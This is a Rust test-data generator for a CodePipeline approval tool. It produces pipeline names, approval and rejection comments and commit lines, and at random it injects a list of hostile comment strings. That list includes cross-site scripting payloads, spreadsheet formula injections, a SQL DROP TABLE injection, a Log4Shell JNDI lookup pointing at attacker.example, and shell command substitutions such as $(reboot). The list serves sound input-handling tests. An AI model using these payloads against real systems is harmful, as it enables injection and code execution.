//! What people call things and write into comments, and what somebody malicious would.

use super::random::Random;

const PIPELINES: [&str; 16] = [
    "payments-api",
    "ledger-export",
    "web.shop",
    "identity",
    "search-index",
    "mobile_bff",
    "data-platform",
    "network",
    "pricing",
    "checkout",
    "notifications",
    "reporting",
    "fraud-model",
    "landing-zone",
    "order-router",
    "tax@eu",
];
/// All of them are names that CodePipeline takes.
const ODD_PIPELINES: [&str; 5] = ["..", "-rf", "@SUM", "con.txt", "_"];
const SUMMARIES: [&str; 12] = [
    "CAB-{n} ok",
    "change {n}, reviewed with the team",
    "looks good",
    "tests green, dashboard quiet",
    "release {n}",
    "approved in the stand-up",
    "see CHG{n}",
    "hotfix for INC-{n}",
    "lgtm",
    "geprüft, Ticket {n}",
    "承認 {n}",
    "ok",
];
const REASONS: [&str; 6] = [
    "missing test evidence",
    "not in the change window",
    "rollback plan missing ({n})",
    "wrong branch",
    "freeze until release {n}",
    "dashboard is red",
];
/// Comments of somebody who aims at a page, a spreadsheet, a shell or a query.
const HOSTILE: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</script></style><svg onload=alert(1)>",
    "=HYPERLINK(\"http://attacker.example\",\"ok\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'; DROP TABLE approval_calls; --",
    "line one\r\nline two\ttab \u{0001}\u{001b}[31mred",
    "\u{202e}devorppa\u{202c} \u{feff}\u{200b}",
    "{{7*7}} ${jndi:ldap://attacker.example/a} %s%n",
    "`id`; $(reboot) \\\" \\u0000 | ' , ; \"\"",
];

pub(super) fn pipeline(random: &mut Random, number: usize) -> String {
    if random.chance(15) {
        let odd = random.of(&ODD_PIPELINES);
        return format!("{odd}{}", if number == 0 { String::new() } else { number.to_string() });
    }
    if random.chance(5) {
        // The longest that CodePipeline takes.
        return format!("{}{number}", "x".repeat(100 - number.to_string().len()));
    }
    let name = random.of(&PIPELINES);
    if number == 0 {
        (*name).to_owned()
    } else {
        format!("{name}-{number}")
    }
}

pub(super) fn approving(random: &mut Random) -> String {
    if random.chance(250) {
        String::new()
    } else {
        comment(random, &SUMMARIES)
    }
}

/// A comment of somebody who rejects, stops or forbids.
pub(super) fn refusing(random: &mut Random) -> String {
    comment(random, &REASONS)
}

/// What stands in a commit's first line.
pub(super) fn commit(random: &mut Random) -> String {
    let subject = comment(
        random,
        &[
            "Raise the retry budget",
            "Fix rounding (PAY-{n})",
            "Bump dependencies",
            "Refactor",
        ],
    );
    format!("{subject}\n\nRefs PAY-{}", random.below(900))
}

fn comment(random: &mut Random, usual: &[&str]) -> String {
    if random.chance(4) {
        return (*random.of(&HOSTILE)).to_owned();
    }
    if random.chance(3) {
        // The longest that CodePipeline takes, in characters of two bytes.
        return "é".repeat(512);
    }
    random.of(usual).replace("{n}", &random.between(100, 9999).to_string())
}
